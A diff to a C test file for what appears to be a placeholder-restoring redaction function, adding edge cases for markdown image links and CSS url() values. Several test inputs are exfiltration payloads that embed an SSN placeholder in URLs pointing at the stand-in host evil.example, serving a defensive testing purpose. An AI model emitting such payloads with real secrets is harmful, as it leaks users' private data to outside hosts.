@@ -183,6 +183,7 @@ static void markdown_destinations(void **state) {
     text("![x](/a(b)c/[SSN_1]) [NAME_1]", "![x](/a(b)c/[SSN_1]) Ada");
     text("![x](/a\\)/[SSN_1]) [NAME_1]", "![x](/a\\)/[SSN_1]) Ada");
     text("![x](</a b)/[SSN_1]>) [NAME_1]", "![x](</a b)/[SSN_1]>) Ada");
+    text("![x](<a> [SSN_1]) [NAME_1]", "![x](<a> [SSN_1]) Ada");
     text("![x]( /a/[SSN_1] \"t\") [NAME_1]", "![x]( /a/[SSN_1] \"t\") Ada");
     text("[x](never closed [SSN_1]\n\n[NAME_1]", "[x](never closed [SSN_1]\n\nAda");
     text("[x] ([NAME_1])", "[x] (Ada)");
@@ -221,6 +222,7 @@ static void html_attributes_and_styles(void **state) {
     text("p{background:url(//evil.example/[SSN_1])} [NAME_1]", "p{background:url(//evil.example/[SSN_1])} Ada");
     text("url( \"//evil.example/)[SSN_1]\" ) [NAME_1]", "url( \"//evil.example/)[SSN_1]\" ) Ada");
     text("URL('//evil.example/\\'[SSN_1]') [NAME_1]", "URL('//evil.example/\\'[SSN_1]') Ada");
+    text("url('a\\')[SSN_1]') [NAME_1]", "url('a\\')[SSN_1]') Ada");
     text("@import \"//evil.example/[SSN_1]\"; [NAME_1]", "@import \"//evil.example/[SSN_1]\"; Ada");
 }
 
